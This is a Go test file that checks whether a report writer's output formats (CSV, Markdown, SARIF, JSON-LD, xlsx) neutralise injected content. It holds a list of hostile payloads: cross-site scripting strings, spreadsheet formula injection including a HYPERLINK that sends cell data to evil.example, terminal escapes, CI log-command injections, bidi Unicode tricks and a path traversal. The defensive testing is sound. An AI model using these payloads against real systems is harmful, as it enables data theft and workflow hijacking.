package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// payloads are what somebody may write into a text, a name, a title, a path or
// an error so that a report does more than be read.
var payloads = []string{
	"<script>alert(1)</script>",
	`<img src=x onerror="alert(1)">`,
	"</code></pre><b onclick=alert(1)>",
	`=HYPERLINK("http://evil.example/?"&A1,"open")`,
	"+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "x;=1+1", `x; "=1+1`,
	"\x1b[2J\x1b]0;owned\a", "\u009b31m", "\x00\x7f",
	"::error file=a.go,line=1::owned", "\n::add-mask::x", "x\n  ::stop-commands::token", "a::\xff", "\xff::\xc3(", "##[error]owned", "a ##vso[task.setvariable variable=x]y",
	"[click](http://evil.example)", "![x](http://evil.example/x.png)", "<http://evil.example>", "http://evil.example/a", "www.evil.example",
	"@everyone #1 evil/repo#2", "`code` ``more``", "| a | b |", "{0} {1}", "[x](1)", `back\slash\`, "*bold* _it_ ~~gone~~ $x$",
	"12\u202e43", "\u2066isolate\u2069", "1\u200b2", "\ufeffmark", "soft\u00adhyphen", "tag\U000E0041", "line\u2028break\u2029",
	"javascript:alert(1)", "//evil.example/x", "../../etc/passwd", "C:\\x",
}

// poisoned returns a run with a payload in every field that others fill.
func poisoned(t *testing.T, p string) []Line {
	t.Helper()
	side := func() Side {
		return Side{Source: p, Date: "2021-06-08", Line: 3, Sentence: p + " left " + p, Start: len(p) + 6, End: 2*len(p) + 6, Text: p, Value: p, Origin: p}
	}
	right, other := side(), side()
	f := &Finding{
		Type: "finding", ID: "00c0ffee00c0ffee", Kind: "count", Verdict: "contradiction", Severity: "error",
		Confidence: 0.9, Message: p, Left: side(), Right: &right, More: []Sides{{side(), &other}},
		By: "rule", Rule: p, Places: 2, Baseline: fresh, Ignored: &Ignored{p, p, "2030-01-01"},
	}
	return []Line{
		&Run{Type: "run", Version: "devel", Schema: SchemaVersion, Config: "0123456789abcdef", Sources: []string{p}},
		f,
		&Failure{Type: "error", Source: p, Error: p},
		&Summary{Type: "summary", Documents: 2, Pairs: Pairs{Refused: map[string]int{p: 1}}, Findings: Verdicts{Contradiction: 1}, Errors: 1,
			Origins: &Origins{Sources: 2, Origins: 1, Groups: []Origin{{p, p, []string{p}}}}},
	}
}

// written returns a run in a format.
func written(t *testing.T, format string, run []Line) string {
	t.Helper()
	var b bytes.Buffer
	w, err := New(format, &b, TextOptions{})
	require.NoError(t, err)
	for _, l := range run {
		require.NoError(t, w.Write(l))
	}
	require.NoError(t, w.Close())
	return b.String()
}

// shown returns what a format says: of a workbook, what its parts hold.
func shown(t *testing.T, format string, run []Line) string {
	t.Helper()
	got := written(t, format, run)
	if format != "xlsx" {
		return got
	}
	list := parts(t, got)
	var all strings.Builder
	for _, name := range slices.Sorted(maps.Keys(list)) {
		all.WriteString(list[name])
	}
	return all.String()
}

// command is what runners of workflows take for a command in a line of a log.
var command = regexp.MustCompile(`(?m)^\s*::|##\[|##vso\[`)

// Whatever stands in a document, its name or an error, no format lets it act
// on a terminal, on the order of a text or on a program that reads a log.
func TestPayloadsInEveryFormat(t *testing.T) {
	for _, format := range Formats() {
		for _, p := range payloads {
			got := strings.ReplaceAll(shown(t, format, poisoned(t, p)), "\r\n", "\n")
			for _, r := range got {
				if invisible(r) && r != '\n' {
					t.Errorf("%s: %q holds %U", format, p, r)
					break
				}
			}
			assert.NotRegexp(t, command, got, "%s: %q", format, p)
		}
	}
}

// A cell is a formula where it begins like one, in a spreadsheet that parts
// cells at commas or at semicolons.
func TestPayloadsInCSV(t *testing.T) {
	begins := regexp.MustCompile(`^[\s"]*[=+\-@＝＋－＠]`)
	for i := range 2 * len(payloads) {
		p := payloads[i/2]
		got := written(t, []string{"csv", "facts"}[i%2], poisoned(t, p))
		for _, comma := range []rune{',', ';'} {
			in := csv.NewReader(strings.NewReader(got))
			in.Comma, in.LazyQuotes, in.FieldsPerRecord = comma, true, -1
			rows, err := in.ReadAll()
			require.NoError(t, err)
			for _, row := range rows {
				for _, cell := range row {
					assert.NotRegexp(t, begins, cell, "%q, cells parted by %q", p, comma)
				}
			}
		}
	}
}

// Outside code spans a comment holds words of the program alone.
func TestPayloadsInMarkdown(t *testing.T) {
	span := regexp.MustCompile("(?:^|[^`])(`+)(?:[^`]|$)")
	for _, p := range payloads {
		for line := range strings.Lines(written(t, "md", poisoned(t, p))) {
			var outside strings.Builder
			for rest := line; ; {
				at := span.FindStringSubmatchIndex(rest)
				if at == nil {
					outside.WriteString(rest)
					break
				}
				fence := rest[at[2]:at[3]]
				outside.WriteString(rest[:at[2]])
				end := regexp.MustCompile("[^`](" + fence + ")(?:[^`]|$)").FindStringSubmatchIndex(rest[at[3]:])
				require.NotNil(t, end, "%q: a code span ends where it begins: %s", p, line)
				rest = rest[at[3]+end[3]:]
			}
			prose := regexp.MustCompile(`\\.`).ReplaceAllString(outside.String(), "")
			assert.NotRegexp(t, `[<>\[\]@|{}$]|http:|www\.|javascript:|evil/|#1`, prose, "%q: %s", p, line)
		}
	}
}

// A message in SARIF has one link, which the program has put there, and no
// placeholder. A reference to a source is never an address of another scheme.
func TestPayloadsInSARIF(t *testing.T) {
	link := regexp.MustCompile(`(?:^|[^\\])(?:\\\\)*\[`)
	for _, p := range payloads {
		var log sarifLog
		require.NoError(t, json.Unmarshal([]byte(written(t, "sarif", poisoned(t, p))), &log))
		result := log.Runs[0].Results[0]
		assert.Len(t, link.FindAllString(result.Message.Text, -1), 1, "%q: %s", p, result.Message.Text)
		assert.NotRegexp(t, `(?:^|[^{])(?:\{\{)*\{[0-9]`, result.Message.Text, p)
		for _, l := range append(result.Related, result.Locations...) {
			uri := l.Physical.Artifact.URI
			assert.NotRegexp(t, `^(?:[a-z]+:|//|\\)`, strings.TrimPrefix(strings.TrimPrefix(uri, "file://"), "http://evil.example"), "%q", p)
		}
	}
}

// Annotations carry plain text, and quote a document exactly.
func TestPayloadsInAnnotations(t *testing.T) {
	for _, p := range payloads {
		var all annotationCollection
		require.NoError(t, json.Unmarshal([]byte(written(t, "jsonld", poisoned(t, p))), &all))
		require.Len(t, all.First.Items, 1)
		for _, body := range all.First.Items[0].Body {
			assert.Equal(t, "text/plain", body.Format)
			assert.Equal(t, Visible(body.Value), body.Value)
		}
		for _, target := range all.First.Items[0].Target {
			assert.Equal(t, strings.ToValidUTF8(p, "\ufffd"), target.Selector[0].(map[string]any)["exact"])
		}
	}
}
